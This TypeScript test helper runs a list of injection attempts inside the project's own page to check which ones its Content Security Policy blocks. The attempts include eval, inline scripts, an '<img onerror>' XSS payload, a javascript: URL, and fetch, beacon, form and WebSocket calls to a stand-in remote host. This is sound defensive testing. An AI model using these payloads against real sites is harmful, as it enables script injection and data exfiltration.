/**
 * What injected content would try in one of our pages, run inside it. Self-contained: Playwright sends the
 * source. Answers what each attempt ended in: the policy directive that stopped it, the error it threw, or
 * `done` when nothing stopped it.
 */
export async function attackPage(remote: string): Promise<Readonly<Record<string, string>>> {
  const seen: string[] = []
  document.addEventListener('securitypolicyviolation', (event) => {
    seen.push(event.effectiveDirective)
  })
  // Out of the debugger's call: inside it the policy's ban on eval is lifted.
  await new Promise((resolve) => requestAnimationFrame(resolve))

  const element = (name: string, values: Readonly<Record<string, string>>): HTMLElement => {
    const made = document.createElement(name)
    for (const [key, value] of Object.entries(values)) made.setAttribute(key, value)
    return made
  }
  const place = (name: string, values: Readonly<Record<string, string>>): HTMLElement =>
    document.body.appendChild(element(name, values))
  const property = (name: string, key: string, value: string): void => {
    Object.assign(place(name, {}), { [key]: value })
  }

  const attempts: Readonly<Record<string, () => unknown>> = {
    // The attack itself.
    // eslint-disable-next-line @typescript-eslint/no-implied-eval
    'new Function': () => Boolean(new Function('return 1')),
    eval: () => Boolean((0, eval)('1')),
    'timer with text': () => {
      // eslint-disable-next-line @typescript-eslint/no-implied-eval
      setTimeout('document.title = "owned"', 0)
    },
    'inline script': () => property('script', 'text', 'document.title = "owned"'),
    'script address': () => property('script', 'src', `${remote}/x.js`),
    'script attribute': () => place('script', { src: `${remote}/x.js` }),
    'inline handler': () => place('a', { onclick: 'document.title = "owned"' }),
    'image markup': () => property('div', 'innerHTML', '<img src=x onerror=alert(1)>'),
    'markup by range': () => document.createRange().createContextualFragment('<b>x</b>'),
    'markup by write': () => {
      // eslint-disable-next-line @typescript-eslint/no-deprecated
      document.write('<b>x</b>')
    },
    'markup by parser': () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
    'frame markup': () => property('iframe', 'srcdoc', '<b>x</b>'),
    'another policy': () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown }
      }
      trustedTypes.createPolicy('lenient', { createHTML: (text: string) => text })
    },
    'script as an address': () => place('a', { href: 'javascript:document.title="owned"' }).click(),
    image: () => place('img', { src: `${remote}/x.png` }),
    'image of data': () => place('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }),
    'style sheet': () => place('link', { rel: 'stylesheet', href: `${remote}/x.css` }),
    'inline style': () => property('style', 'textContent', 'body { opacity: 0 }'),
    'style attribute': () => place('p', { style: 'opacity: 0' }),
    frame: () => place('iframe', { src: `${remote}/x.html` }),
    'frame of ours': () => place('iframe', { src: '/sign-in-bar/index.html' }),
    object: () => place('object', { data: `${remote}/x.swf` }),
    base: () => document.head.appendChild(element('base', { href: remote })),
    fetch: () => fetch(`${remote}/x`),
    'fetch of ours': () => fetch('/index.html'),
    beacon: () => navigator.sendBeacon(`${remote}/x`),
    WebSocket: () => new WebSocket(remote.replace('http', 'ws')),
    'event source': () => new EventSource(`${remote}/x`),
    worker: () => new Worker(`${remote}/x.js`),
    'service worker': () => navigator.serviceWorker.register('/index.js'),
    video: () => place('video', { src: `${remote}/x.mp4`, preload: 'auto' }),
    form: () => {
      const form = place('form', { action: `${remote}/x`, method: 'post' })
      ;(form as HTMLFormElement).submit()
    },
  }

  const frames = (): Promise<void> =>
    new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => resolve())))
  /** A frame's policy is checked in another process, which reports when it comes to it. */
  const settle = async (mayBeSilent: boolean): Promise<void> => {
    const deadline = performance.now() + 10_000
    do await frames()
    while (seen.length === 0 && !mayBeSilent && performance.now() < deadline)
  }
  const ends: Record<string, string> = {}
  for (const [what, attempt] of Object.entries(attempts)) {
    seen.length = 0
    let error = ''
    try {
      await attempt()
    } catch (thrown) {
      error = thrown instanceof Error ? thrown.name : 'thrown'
    }
    await settle(error !== '')
    ends[what] = [...new Set(seen)].join(' ') || error || 'done'
  }
  return ends
}
